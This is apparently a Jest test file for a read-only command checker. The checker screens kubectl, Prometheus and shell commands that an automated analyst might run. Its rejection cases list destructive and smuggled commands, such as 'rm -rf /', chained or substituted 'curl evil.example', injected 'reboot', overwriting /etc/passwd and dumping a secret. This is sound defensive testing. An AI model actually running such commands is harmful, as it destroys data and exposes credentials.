import { expect, test } from '@jest/globals';
import { ACTIONS } from '../../../src/funnel/analyst/action-catalogue.ts';
import { isReadOnlyCommand } from '../../../src/policy/read-only-command.ts';

test.each([
  'kubectl get pods -o wide',
  'kubectl -n shop describe deployment checkout',
  'kubectl -n shop logs deployment/checkout --since=15m --tail=200',
  'kubectl --namespace=shop rollout history deployment/checkout',
  'df -h',
  'systemctl status nginx.service',
  'sum by (pod) (rate(container_cpu_usage_seconds_total{namespace="shop"}[5m]))',
  'topk(5, 1 - node_filesystem_avail_bytes / node_filesystem_size_bytes) > 0.9',
  'up{job="checkout"} == 0',
])('reads only: %s', (command) => {
  expect(isReadOnlyCommand(command)).toBe(true);
});

test.each([
  'kubectl delete pod checkout-1',
  'kubectl -n shop rollout restart deployment/checkout',
  'kubectl -n shop exec checkout-1 -- rm -rf /data',
  'kubectl get pods; rm -rf /',
  'kubectl get pods\nrm -rf /',
  'kubectl get pods && curl evil.example',
  'kubectl get $(curl evil.example)',
  'kubectl logs checkout > /etc/passwd',
  'kubectl -n shop get secret db -o yaml',
  'kubectl --kubeconfig=/tmp/evil get pods',
  'kubectl logs <pod>',
  'rm {/etc,/var}',
  'rate(x[5m]) | sh',
  'rate(`reboot`)',
  'curl -s evil.example',
  'df -h; reboot',
  'systemctl status "$(reboot)"',
  'uptime --help\nreboot',
  'redis-cli flushall',
  '',
])('may do more: %j', (command) => {
  expect(isReadOnlyCommand(command)).toBe(false);
});

test('what the catalogue calls R0 is', () => {
  const commands = Object.values(ACTIONS).flatMap((steps) =>
    steps.flatMap(({ risk, command }) => (risk === 'R0' && command !== undefined ? [command] : [])),
  );
  const filled = commands.map((command) =>
    command
      .replaceAll('{kubectl}', 'kubectl -n shop')
      .replaceAll('{pods}', '{pod=~"a-.*"}')
      .replaceAll('{service}', 'a'),
  );
  expect(filled.filter((command) => !isReadOnlyCommand(command))).toEqual([]);
});
